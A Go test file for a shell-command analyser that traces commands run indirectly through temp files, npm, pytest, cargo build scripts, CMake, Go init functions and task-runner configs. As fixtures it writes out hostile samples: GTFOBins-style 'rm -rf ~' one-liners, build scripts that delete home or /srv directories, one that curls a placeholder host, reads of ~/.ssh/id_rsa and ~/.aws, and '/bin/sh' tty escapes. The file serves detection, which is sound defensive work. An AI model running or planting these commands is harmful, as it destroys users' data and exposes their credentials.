package cmdline

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// TestTempFileRuns: GTFOBins' older form, a file written on the line to a
// variable's name (TF=$(mktemp), or a file in TF=$(mktemp -d)) and handed
// to a program that runs it, is judged by its text like a named one.
func TestTempFileRuns(t *testing.T) {
	for _, tt := range []struct {
		line string
		want string // a command reached through the file ("name args"), or "" for none
	}{
		{`TF=$(mktemp); echo 'os.execute("rm -rf ~")' > $TF; nmap --script=$TF`, "rm -rf ~"},
		{`TF=$(mktemp); echo 'os.execute("rm -rf ~")' >$TF; pandoc -L $TF /dev/null`, "rm -rf ~"},
		{`TF=$(mktemp -d); echo 'import os; os.system("rm -rf ~")' > $TF/setup.py; pip install $TF`, "rm -rf ~"},
		{`TF=$(mktemp -d); echo 'system("rm -rf ~")' > $TF/Gemfile; cd $TF; bundle install`, "rm -rf ~"},
		{`TF=$(mktemp -d); echo '{"scripts":{"x":"rm -rf ~"}}' >$TF/composer.json; composer --working-dir=$TF run-script x`, "rm -rf ~"},
		{`TF=$(mktemp); echo '[{hosts: localhost, tasks: [shell: rm -rf ~]}]' >$TF; ansible-playbook $TF`, "rm -rf ~"},
		{`TF=$(mktemp); echo 'exec "rm -rf ~";' >$TF; cowsay -f $TF x`, "rm -rf ~"},
		{`TF=$(mktemp); echo 'exec rm -rf ~' > "$TF"; tclsh "$TF"`, "rm -rf ~"},
		{`TF=$(mktemp); echo 'run-shell "rm -rf ~"' > $TF; tmux source-file $TF`, "rm -rf ~"},
		{`d=$(mktemp -d); echo 'rm -rf ~' > "$d/x.sh"; bash "$d/x.sh"`, "rm -rf ~"},
		{`TF=$(mktemp -d); echo 'import os; os.system("rm -rf ~")' > $TF/setup.py; pip install -e $TF`, "rm -rf ~"},
		{`TF=$(mktemp -d); echo 'import os; os.system("rm -rf ~")' > $TF/setup.py; easy_install $TF`, "rm -rf ~"},
		{`TF=$(mktemp -d); echo 'import os; os.system("rm -rf ~")' > $TF/setup.py; python3 $TF/setup.py install`, "rm -rf ~"},
		{`echo 'system("rm -rf ~")' > x.gemspec; gem build x.gemspec`, "rm -rf ~"},
		{`TF=$(mktemp); echo 'system("rm -rf ~")' > $TF; gem install --file $TF`, "rm -rf ~"},
		{`echo 'Gem::Specification.new { |s| s.name = "x" }' > x.gemspec; gem build x.gemspec`, ""},
		{`TF=$(mktemp); echo "exec { 'rm -rf ~': }" > $TF; puppet apply $TF`, "rm -rf ~"},
		{`echo "notice('rm -rf ~')" > x.pp; puppet apply x.pp`, ""},
		{`TF=$(mktemp); echo 'hello' > $TF; cowsay -f $TF x`, ""},
		{`TF=$(mktemp); echo 'rm -rf ~' > $TF; wc -l $TF`, ""},
		{`TF=$(mktemp -d); echo 'rm -rf ~' > $TF/x.sh; tar czf x.tgz $TF`, ""},
	} {
		var ran []string
		for _, c := range ParseShell(tt.line, "bash").Commands {
			if len(c.Via) > 0 && c.Name == "rm" {
				ran = append(ran, strings.TrimSpace(c.Name+" "+strings.Join(wordValues(c.Args), " ")))
			}
		}
		if tt.want == "" && len(ran) > 0 || tt.want != "" && !slices.Contains(ran, tt.want) {
			t.Errorf("%q: ran %q, want %q", tt.line, ran, tt.want)
		}
	}
}

// TestAnsibleCommands: the command lines of a playbook's shell, command,
// raw and script tasks, in block and flow style.
func TestAnsibleCommands(t *testing.T) {
	for text, want := range map[string][]string{
		"- hosts: all\n  tasks:\n    - shell: make build\n":                                    {"make build"},
		"- hosts: all\n  tasks:\n    - ansible.builtin.command: echo hi\n":                     {"echo hi"},
		"- hosts: all\n  tasks:\n    - shell: |\n        cd /srv\n        make\n    - ping:\n": {"cd /srv\nmake"},
		"- hosts: all\n  tasks:\n    - command:\n        cmd: rm -rf /srv/old\n":               {"rm -rf /srv/old"},
		"[{hosts: localhost, tasks: [shell: /bin/sh]}]":                                        {"/bin/sh"},
		"- hosts: all\n  tasks:\n    - script: setup.sh\n":                                     {"sh setup.sh"},
		"- hosts: all\n  tasks:\n    - apt: name=nginx\n":                                      nil,
	} {
		if got := ansibleCommands(text); !slices.Equal(got, want) {
			t.Errorf("ansibleCommands(%q) = %q, want %q", text, got, want)
		}
	}
}

// TestComposerScripts: a composer.json's scripts, strings and lists, with
// @php and @composer as programs and references and PHP callbacks left out.
func TestComposerScripts(t *testing.T) {
	text := `{"scripts": {"test": "phpunit", "post-install-cmd": ["@test", "@php artisan key:generate", "App\\Setup::run", "rm -rf cache"]}}`
	want := []string{"php artisan key:generate", "rm -rf cache", "phpunit"}
	if got := composerScripts(text); !slices.Equal(got, want) {
		t.Errorf("composerScripts = %q, want %q", got, want)
	}
}

// TestTomlScripts: the scripts of pdm, hatch, poe and mise in their TOML
// tables: strings, argv lists, hatch's lists of commands, cmd, shell and
// run keys inline or in a script's own table; callables and help are not
// commands.
func TestTomlScripts(t *testing.T) {
	for prog, tt := range map[string]struct {
		text string
		want []string
	}{
		"pdm": {"[project]\nname = \"x\"\n[tool.pdm.scripts]\nstart = \"flask run\"\nlint = {cmd = [\"ruff\", \"check\", \".\"], help = \"lint\"}\nsh = {shell = \"rm -rf ~/pdm\"}\nfn = {call = \"pkg:fn\"}\n[tool.pdm.scripts.x]\ncmd = \"echo x\"\nhelp = \"h\"\n",
			[]string{"flask run", "'ruff' 'check' '.'", "rm -rf ~/pdm", "echo x"}},
		"hatch": {"[tool.hatch.envs.default.scripts]\ntest = \"pytest\"\nall = [\"ruff .\", \"rm -rf ~/hatch\"]\n[tool.hatch.envs.default]\ndependencies = [\"x\"]\n",
			[]string{"pytest", "ruff .\nrm -rf ~/hatch"}},
		"poe": {"[tool.poe.tasks]\ntest = \"pytest\"\nclean.shell = \"rm -rf ~/poe\"\n[tool.poe.tasks.build]\nshell = \"make\"\nhelp = \"b\"\n",
			[]string{"pytest", "rm -rf ~/poe", "make"}},
		"mise": {"[tools]\nnode = \"20\"\n[tasks.build]\nrun = \"rm -rf ~/mise\"\ndescription = \"x\"\n[tasks]\nlint = \"eslint .\"\n",
			[]string{"rm -rf ~/mise", "eslint ."}},
	} {
		if got := tomlScripts(tt.text, prog); !slices.Equal(got, tt.want) {
			t.Errorf("tomlScripts(%s) = %q, want %q", prog, got, tt.want)
		}
	}
}

// TestConfigEnv: the environment variables read as naming a program's
// configuration, and words that only contain RC or CONFIG-like letters.
func TestConfigEnv(t *testing.T) {
	for name, want := range map[string]bool{
		"KUBECONFIG": true, "GIT_CONFIG_GLOBAL": true, "INPUTRC": true, "WGETRC": true, "APP_CONFIG_FILE": true, "MY_PROFILE": true,
		"FORCE": false, "SOURCE": false, "SRC_DIR": false, "PYTHONSTARTUP": false, "PATH": false,
	} {
		if got := configEnv().MatchString(name); got != want {
			t.Errorf("configEnv(%s) = %v, want %v", name, got, want)
		}
	}
}

// TestCrontabCommands: a job's command is what follows its five time
// fields, whatever spaces part them (a form feed or a no-break space too:
// strings.Fields splits there, and cutting elsewhere once panicked).
func TestCrontabCommands(t *testing.T) {
	for _, tt := range []struct {
		text string
		want []string
	}{
		{"* * * * * rm -rf ~\n", []string{"rm -rf ~"}},
		{"1\f2\f3\f4\f5\fecho hi\n", []string{"echo hi"}},
		{"1\u00a02 3 4 5 echo  hi\n", []string{"echo  hi"}},
		{"@reboot /x.sh\n# 1 2 3 4 5 no\nPATH=/bin\n", []string{"/x.sh"}},
	} {
		if got := crontabCommands(tt.text); !slices.Equal(got, tt.want) {
			t.Errorf("%q: %q, want %q", tt.text, got, tt.want)
		}
	}
}

// TestTomlScriptsSpread: a script's value over several lines (an array, a
// multi-line string, a nested inline table) and long lists are read
// whole; the review found each one read as nothing, or cut short.
func TestTomlScriptsSpread(t *testing.T) {
	long := strings.Repeat(`"echo hi", `, 40)
	for _, tt := range []struct {
		prog, text, want string // want: a command the scripts hold
	}{
		{"pdm", "[tool.pdm.scripts]\nz = [\n \"rm\",\n \"-rf\",\n \"/\",\n]\n", "'rm' '-rf' '/'"},
		{"poe", "[tool.poe.tasks.z]\nshell = \"\"\"\nrm -rf ~\n\"\"\"\n", "rm -rf ~\n"},
		{"hatch", "[tool.hatch.envs.default.scripts]\nx = [" + long + "\"rm -rf ~\"]\n", "rm -rf ~"},
		{"pdm", "[tool.pdm.scripts]\nz = {env = {A=\"1\",B=\"2\",C=\"3\",D=\"4\",E=\"5\",F=\"6\",G=\"7\",H=\"8\"}, cmd = \"rm -rf ~\"}\n", "rm -rf ~"},
	} {
		got := tomlScripts(tt.text, tt.prog)
		if !slices.ContainsFunc(got, func(c string) bool { return strings.Contains(c, tt.want) }) {
			t.Errorf("tomlScripts(%s, %q) = %q, want one holding %q", tt.prog, tt.text, got, tt.want)
		}
	}
}

// TestWordSubstitutions: text written with $(tty) and its kin is known but
// for those words; any other expansion leaves it unknown.
func TestWordSubstitutions(t *testing.T) {
	for v, want := range map[string]bool{
		`/bin/sh <$(tty) >$(tty) 2>$(tty)`:   true,
		`hello $(whoami) on $(hostname)`:     true,
		`chown $(id -un):$(id -gn) x`:        true,
		`rm -rf $(pwd)`:                      false,
		`/bin/sh <$(tty) $HOME`:              false,
		`exec('/bin/sh -c $@|sh _ <$(tty)')`: true,
		`echo $@`:                            false,
		"`tty` x":                            false,
		`plain`:                              false,
	} {
		if got := wordSubstitutions(v); got != want {
			t.Errorf("wordSubstitutions(%q) = %v, want %v", v, got, want)
		}
	}
	line := `echo "execute = /bin/sh,-c,\"/bin/sh <$(tty) >$(tty)\"" >~/.rtorrent.rc; rtorrent`
	if !slices.ContainsFunc(ParseShell(line, "bash").Commands, func(c *Command) bool {
		return len(c.Via) > 0 && strings.HasPrefix(c.Via[len(c.Via)-1], "rtorrent @")
	}) {
		t.Errorf("%s: the shell the written start-up file starts is not reached", line)
	}
}

// TestProjectCodeRuns: the code a project's runner executes that its line
// does not name is read when the session (or, for an agent, the project)
// holds it: npm start's server.js, a package's bin, the modules a Node
// file requires by relative path, pytest's nested test files, a crate's
// build script, a CMake project configured where cmake runs. Ordinary
// projects' files run nothing they are blocked or asked for.
func TestProjectCodeRuns(t *testing.T) {
	const js = "require('child_process').execSync('rm -rf ~/%s')\n"
	const py = "import os\nos.system('rm -rf ~/%s')\n"
	files := map[string]string{
		// npm start with no start script runs node server.js
		"/p/ns/package.json": `{"name":"ns","dependencies":{"express":"^4"}}`,
		"/p/ns/server.js":    fmt.Sprintf(js, "start"),
		"/p/ok/package.json": `{"name":"ok","main":"server.js","scripts":{"test":"jest"}}`,
		"/p/ok/server.js":    "const express = require('express')\nconst app = express()\napp.get('/', (req, res) => res.send('hi'))\napp.listen(process.env.PORT || 3000)\n",
		"/p/st/package.json": `{"name":"st","scripts":{"start":"node app.js"}}`,
		"/p/st/server.js":    fmt.Sprintf(js, "notrun"),
		// a package's bin: a string (run by the package's name) or a map
		"/p/b1/package.json": `{"name":"@x/b1","bin":"cli.js"}`,
		"/p/b1/cli.js":       "#!/usr/bin/env node\n" + fmt.Sprintf(js, "bin1"),
		"/p/b2/package.json": `{"name":"b2","bin":{"b2":"bin/b2.js","other":"bin/sh.sh"}}`,
		"/p/b2/bin/b2.js":    fmt.Sprintf(js, "bin2"),
		"/p/b2/bin/sh.sh":    "#!/bin/sh\nrm -rf ~/binsh\n",
		// relative requires, from the requiring file's directory, in turn
		"/p/nr/package.json":      `{"main":"lib/index.js"}`,
		"/p/nr/lib/index.js":      "const ev = require('./ev.js')\nconst u = require('./util')\n",
		"/p/nr/lib/ev.js":         fmt.Sprintf(js, "ev"),
		"/p/nr/lib/util/index.js": "module.exports = require('../deep/d')\n",
		"/p/nr/lib/deep/d.js":     fmt.Sprintf(js, "deep"),
		"/p/nr/ev.js":             "console.log('not the one required')\n",
		"/p/nr/app.mjs":           "import './lib/ev2.mjs'\nimport { x } from \"./lib/x.mjs\"\n",
		"/p/nr/lib/ev2.mjs":       "import { execSync } from 'child_process'\nexecSync('rm -rf ~/mjs')\n",
		"/p/nr/lib/x.mjs":         "export const x = 1\n",
		"/p/nr/lib/ts.ts":         "import './ev'\nexport const y: number = 1\n",
		"/p/nr/ok.js":             "const path = require('path')\nconst cfg = require('./config.json')\nconsole.log(path.join(__dirname, cfg.out))\n",
		// pytest collects nested test files and conftest.py
		"/p/py/**/conftest.py|test_*.py|*_test.py":             fmt.Sprintf(py, "conftest") + fmt.Sprintf(py, "nested"),
		"/p/py/**/conftest.py|__init__.py|test_*.py|*_test.py": fmt.Sprintf(py, "conftest") + fmt.Sprintf(py, "nested"), // pytest py: its packages too
		"/p/pi/pytest.ini": "[pytest]\ntestpaths = checks\npython_files = check_*.py\n",
		"/p/pi/checks/**/conftest.py|__init__.py|check_*.py":       fmt.Sprintf(py, "checks"),
		"/p/pt/pyproject.toml":                                     "[project]\nname = \"x\"\n[tool.pytest.ini_options]\ntestpaths = [\n  \"src\",\n]\n",
		"/p/pt/src/**/conftest.py|__init__.py|test_*.py|*_test.py": fmt.Sprintf(py, "toml"),
		"/p/pk/**/conftest.py|test_*.py|*_test.py":                 "import subprocess, sys\n\ndef test_cli():\n    out = subprocess.run([sys.executable, '-m', 'app', '--help'], capture_output=True)\n    assert out.returncode == 0\n",
		"/p/big/**/conftest.py|test_*.py|*_test.py":                "", // the reader's walk was cut: not whole
		// cargo's build script, by default or as [package] build names it
		"/p/rs/Cargo.toml":      "[package]\nname = \"x\"\nversion = \"0.1.0\"\n",
		"/p/rs/build.rs":        "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"rm -rf ~/rs\").status().unwrap();\n}\n",
		"/p/rb/Cargo.toml":      "[package]\nname = \"x\"\nbuild = \"tools/gen.rs\"\n",
		"/p/rb/tools/gen.rs":    "fn main() {\n    let mut c = std::process::Command::new(\"curl\");\n    c.args([\"-s\", \"https://x.example/i\"]);\n    c.arg(\"-o\").arg(\"/tmp/i\");\n    c.status().unwrap();\n    std::fs::remove_dir_all(std::env::var(\"HOME\").unwrap()).unwrap();\n}\n",
		"/p/rw/Cargo.toml":      "[workspace]\nmembers = [\n  \"core\",\n]\n",
		"/p/rw/core/Cargo.toml": "[package]\nname = \"core\"\n",
		"/p/rw/core/build.rs":   "fn main() { std::fs::remove_dir_all(\"/srv/data\").unwrap(); }\n",
		"/p/rok/Cargo.toml":     "[package]\nname = \"x\"\nbuild = \"build.rs\"\n",
		"/p/rok/build.rs": "use std::{env, path::PathBuf, process::Command};\nfn main() {\n    let out = PathBuf::from(env::var(\"OUT_DIR\").unwrap());\n" +
			"    let status = Command::new(\"protoc\").arg(\"--rust_out\").arg(&out).arg(\"proto/api.proto\").status().unwrap();\n    assert!(status.success());\n" +
			"    cc::Build::new().file(\"src/native.c\").compile(\"native\");\n    std::fs::write(out.join(\"gen.rs\"), \"// generated\").unwrap();\n" +
			"    println!(\"cargo:rerun-if-changed=proto/api.proto\");\n}\n",
		// cmake -B configures the project where it runs
		"/p/cm/CMakeLists.txt": "project(x)\nexecute_process(COMMAND sh -c \"rm -rf $ENV{HOME}/cm\")\n",
		"/p/cc/CMakeLists.txt": "project(x)\nadd_custom_command(OUTPUT gen.h COMMAND sh -c \"rm -rf ~/custom\" DEPENDS gen.py)\n",
		// go run PKG and go test compile every .go file of the package
		"/p/gr/*.go":    "package main\nimport \"os/exec\"\nfunc init() { exec.Command(\"rm\", \"-rf\", \"/srv/gr\").Run() }\n",
		"/p/gt/**/*.go": "package x\nimport \"os\"\nfunc init() { os.RemoveAll(\"/srv/gt\") }\n",
		"/p/gok/*.go":   "package main\nimport \"os/exec\"\nfunc main() { exec.Command(\"go\", \"vet\", \"./...\").Run() }\n",
		"/p/cok/CMakeLists.txt": "cmake_minimum_required(VERSION 3.20)\nproject(x C)\nfind_package(Python3 REQUIRED)\n" +
			"add_custom_command(OUTPUT ${CMAKE_CURRENT_BINARY_DIR}/gen.h\n  COMMAND ${Python3_EXECUTABLE} ${CMAKE_CURRENT_SOURCE_DIR}/tools/gen.py -o ${CMAKE_CURRENT_BINARY_DIR}/gen.h\n  DEPENDS tools/gen.py VERBATIM)\n" +
			"add_custom_target(docs ALL doxygen Doxyfile)\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE REV)\nadd_executable(x main.c gen.h)\n",
	}
	var many strings.Builder // more modules than are followed
	for i := range maxImports + 1 {
		fmt.Fprintf(&many, "require('./m%d')\n", i)
		files[fmt.Sprintf("/p/many/m%d.js", i)] = "module.exports = 1\n"
	}
	files["/p/many/index.js"] = many.String()
	before := Before{Cwd: "/p", Written: func(p string) (EarlierFile, bool) {
		text, ok := files[p]
		if strings.HasPrefix(p, "/p/part/**/") {
			return EarlierFile{Text: fmt.Sprintf(py, "part"), Whole: true, Partial: true}, true // a walk cut short
		}
		return EarlierFile{Text: text, Whole: text != ""}, ok
	}}
	for _, tt := range []struct {
		line string
		want string // a command the files run, "limit" or "dynamic" for unknown code, "" for none
	}{
		{"cd ns && npm start", "rm -rf ~/start"},
		{"npm --prefix ns start", "rm -rf ~/start"},
		{"cd ns && pnpm start", "rm -rf ~/start"},
		{"cd ns && npm test", ""},
		{"cd st && npm start", ""}, // its start script runs, not server.js
		{"cd ok && npm start", ""},
		{"cd ok && node .", ""},
		{"cd b1 && npx .", "rm -rf ~/bin1"},
		{"cd b1 && npm exec -- b1", "rm -rf ~/bin1"},
		{"cd b2 && npx b2 --help", "rm -rf ~/bin2"},
		{"cd b2 && npm exec other", "rm -rf ~/binsh"},
		{"cd b2 && pnpm exec b2", "rm -rf ~/bin2"},
		{"cd b2 && npx prettier --check .", ""},
		{"cd nr && node .", "rm -rf ~/ev"},
		{"cd nr && node .", "rm -rf ~/deep"},
		{"node nr/lib/index.js", "rm -rf ~/ev"},
		{"cd nr && node lib", "rm -rf ~/deep"},
		{"cd nr && node app.mjs", "rm -rf ~/mjs"},
		{"cd nr && node ok.js", ""},
		{"cd nr && tsx lib/ts.ts", "rm -rf ~/ev"},
		{"node many", "limit"},
		{"node many/index.js", "limit"},
		{"cd py && pytest", "rm -rf ~/nested"},
		{"cd py && python3 -m pytest -q", "rm -rf ~/conftest"},
		{"pytest py", "rm -rf ~/nested"},
		{"cd pi && pytest", "rm -rf ~/checks"},
		{"cd pt && pytest -x", "rm -rf ~/toml"},
		{"cd pk && pytest", "python3 -m app --help"}, // sys.executable is the Python running the tests
		{"cd big && pytest", "dynamic"},
		{"cd big && pytest", "limit"},
		{"cd part && pytest", "rm -rf ~/part"},
		{"cd part && pytest", "limit"},
		{"pytest py/sub/test_x.py", ""}, // py/sub/conftest.py, py/conftest.py: not written
		{"cd rs && cargo build --release", "rm -rf ~/rs"},
		{"cd rs && cargo test", "rm -rf ~/rs"},
		{"cargo check --manifest-path rs/Cargo.toml", "rm -rf ~/rs"},
		{"cd rs && cargo fmt", ""},
		{"cd rs && cargo install ripgrep", ""},
		{"cargo install --path rs", "rm -rf ~/rs"},
		{"cd rb && cargo run", "curl -s https://x.example/i -o /tmp/i"},
		{"cd rb && cargo run", "rm -rf -- $HOME"},
		{"cd rw && cargo build", "rm -rf -- /srv/data"},
		{"cd rok && cargo build", ""},
		{"cd cm && cmake -B build", "rm -rf ${HOME}/cm"},
		{"cd cm && cmake -G Ninja -B build -DCMAKE_BUILD_TYPE=Release", "rm -rf ${HOME}/cm"},
		{"cd cm && cmake --preset default", "rm -rf ${HOME}/cm"},
		{"cd cm && cmake --build build", ""},
		{"cd cc && cmake -B build", "rm -rf ~/custom"},
		{"cd cok && cmake -B build", ""},
		// a package's source is not read from earlier files: it is the
		// project's code, edited all session (goPackageRuns); a .go file
		// the line writes is (TestGoRunsWrittenPackage). Of the earlier
		// ones, the deletes of a fixed absolute or home path are
		// (goFixedDelete); a program run by name is not
		// a program run on a fixed path outside the package, as os.RemoveAll's (subst48)
		{"cd gr && go run .", "rm -rf /srv/gr"},
		{"go run ./gr --flag", "rm -rf /srv/gr"},
		{"go -C gr test", "rm -rf /srv/gr"},
		{"go test ./gt/...", "rm -rf -- /srv/gt"},
		{"cd gt && go test -count=1 ./...", "rm -rf -- /srv/gt"},
		{"go test ./gt", ""}, // its files are below it, not in it
		{"go build ./gr", ""},
		{"cd gok && go run .", ""},
	} {
		var ran []string
		l := ParseShellAfter(tt.line, "bash", before)
		for _, c := range l.Commands {
			if c.Untrusted == "dynamic" {
				ran = append(ran, "dynamic")
			}
			if len(c.Via) == 0 {
				continue
			}
			if c.Payload != nil {
				ran = append(ran, c.Payload.ShellOuts...)
				ran = append(ran, c.Payload.Destructive...)
				continue
			}
			if c.Name == "rm" || c.Name == "curl" || c.Name == "sh" {
				ran = append(ran, strings.TrimSpace(c.Name+" "+strings.Join(wordValues(c.Args), " ")))
			}
		}
		for _, is := range l.Issues {
			if is.Kind == IssueLimit {
				ran = append(ran, "limit")
			}
		}
		if tt.want == "" && len(ran) > 0 || tt.want != "" && !slices.Contains(ran, tt.want) {
			t.Errorf("%q: ran %q, want %q", tt.line, ran, tt.want)
		}
	}
}

// TestRustCommands: what a build script's Rust runs, deletes and writes:
// a Command's program and its arg and args, chained or on its variable;
// literals, raw strings, format! and the home; a value known at run time
// stays one.
func TestRustCommands(t *testing.T) {
	for _, tt := range []struct {
		code string
		want []string
	}{
		{`Command::new("sh").arg("-c").arg("rm -rf ~").status()`, []string{`'sh' '-c' 'rm -rf ~'`}},
		{`std::process::Command::new("curl").args(&["-s", r"https://x.example/a"]).output()?;`, []string{`'curl' '-s' 'https://x.example/a'`}},
		{`let mut c = process::Command::new("git"); c.arg("rev-parse"); c.args(vec!["HEAD"]); c.status();`, []string{`'git' 'rev-parse' 'HEAD'`}},
		{`let home = env::var("HOME").unwrap(); Command::new("cat").arg(format!("{}/.ssh/id_rsa", home)).spawn();`, []string{`'cat' "$HOME"'/.ssh/id_rsa'`}},
		{`Command::new("tar").arg(format!("{home}/.aws", home = x))`, []string{`'tar' "$RUST_VALUE"'/.aws'`}},
		{`Command::new(&protoc).arg("--version").current_dir(&out).status()`, []string{`"$RUST_VALUE" '--version'`}},
		{`Command::new("sh").arg("-c").arg(r#"echo "hi""#)`, []string{`'sh' '-c' 'echo "hi"'`}},
		{`fs::remove_dir_all(dirs::home_dir().unwrap())?; std::fs::remove_file(Path::new("/etc/hosts"))?;`, []string{`rm -rf -- "$HOME"`, `rm -- '/etc/hosts'`}},
		{`fs::write(out.join("gen.rs"), code)?; fs::write("/home/u/.bashrc", "x")?;`, []string{`tee "$RUST_VALUE" </dev/null`, `tee '/home/u/.bashrc' </dev/null`}},
		{`OpenOptions::new().append(true).open("/home/u/.profile")?;`, []string{`tee -a '/home/u/.profile' </dev/null`}},
		{`cc::Build::new().file("src/x.c").compile("x"); println!("cargo:rerun-if-changed=build.rs");`, nil},
	} {
		if got := rustCommands(tt.code); !slices.Equal(got, tt.want) {
			t.Errorf("rustCommands(%q) = %q, want %q", tt.code, got, tt.want)
		}
	}
}

// TestCmakeCommands: the command lines of execute_process,
// add_custom_command and add_custom_target (its first command may follow
// its name); $ENV{NAME} is the shell's variable.
func TestCmakeCommands(t *testing.T) {
	text := "execute_process(COMMAND git describe --tags OUTPUT_VARIABLE V COMMAND_ERROR_IS_FATAL ANY)\n" +
		"add_custom_command(OUTPUT gen.h COMMAND gen -o gen.h DEPENDS gen.py COMMAND sh -c \"cp $ENV{HOME}/x .\" VERBATIM)\n" +
		"add_custom_target(docs ALL doxygen Doxyfile COMMENT \"docs\")\nadd_executable(x main.c)\n"
	want := []string{"'git' 'describe' '--tags'", "'gen' '-o' 'gen.h'", `'sh' '-c' 'cp '"${HOME}"'/x .'`, "'doxygen' 'Doxyfile'"}
	if got := cmakeCommands(text); !slices.Equal(got, want) {
		t.Errorf("cmakeCommands = %q, want %q", got, want)
	}
	for line, want := range map[string]bool{
		"cmake -B build": true, "cmake -Bbuild -G Ninja": true, "cmake --preset dev": true, "cmake --workflow --preset ci": true,
		"cmake --build build": false, "cmake --build --preset dev": false, "cmake -E rm -rf x": false, "cmake --install build": false, "cmake --version": false,
	} {
		var args []field
		for _, a := range strings.Fields(line)[1:] {
			args = append(args, field{Word: Word{Value: a}})
		}
		if got := cmakeConfigures(args); got != want {
			t.Errorf("cmakeConfigures(%q) = %v, want %v", line, got, want)
		}
	}
}

// TestPytestSettings: testpaths, python_files and addopts from each of
// pytest's configuration files, in its section only (addopts anywhere);
// a file without pytest's section is not pytest's.
func TestPytestSettings(t *testing.T) {
	for _, tt := range []struct {
		name, text string
		key        string
		want       []string
		ok         bool
	}{
		{"pytest.ini", "[pytest]\ntestpaths =\n    tests\n    integration\naddopts = -q\n", "testpaths", []string{"tests", "integration"}, true},
		{"pyproject.toml", "[tool.pytest.ini_options]\ntestpaths = [\"tests\", 'more']\npython_files = \"check_*.py\"\n", "testpaths", []string{"tests", "more"}, true},
		{"pyproject.toml", "[tool.pytest.ini_options]\npython_files = [\n  \"check_*.py\",\n  \"*_spec.py\",\n]\n", "python_files", []string{"check_*.py", "*_spec.py"}, true},
		{"setup.cfg", "[metadata]\nname = x\n[tool:pytest]\npython_files = t_*.py\n", "python_files", []string{"t_*.py"}, true},
		{"tox.ini", "[tox]\nenvlist = py3\n[testenv]\ncommands = pytest\n", "testpaths", nil, false},
		{"pyproject.toml", "[project]\nname = \"x\"\ntestpaths = \"no\"\n", "testpaths", nil, false},
	} {
		set, ok := pytestSettings(tt.name, tt.text)
		if !slices.Equal(set[tt.key], tt.want) || ok != tt.ok {
			t.Errorf("pytestSettings(%s, %q)[%s] = %q, %v; want %q, %v", tt.name, tt.text, tt.key, set[tt.key], ok, tt.want, tt.ok)
		}
	}
}

// TestCargoManifest: a package's build script and a workspace's members.
func TestCargoManifest(t *testing.T) {
	for text, want := range map[string]string{
		"[package]\nname = \"x\"\nbuild = \"tools/b.rs\"\n": "tools/b.rs",
		"[package]\nbuild = false\n":                        "",
		"[package]\nname = \"x\"\n[lib]\nbuild = \"no\"\n":  "none",
	} {
		got, ok := cargoBuildScript(text)
		if !ok {
			got = "none"
		}
		if got != want {
			t.Errorf("cargoBuildScript(%q) = %q, want %q", text, got, want)
		}
	}
	if got, want := cargoMembers("[workspace]\nresolver = \"2\"\nmembers = [\n  \"core\",\n  \"crates/*\",\n]\n[package]\nname = \"x\"\n"), []string{"core", "crates/*"}; !slices.Equal(got, want) {
		t.Errorf("cargoMembers = %q, want %q", got, want)
	}
}
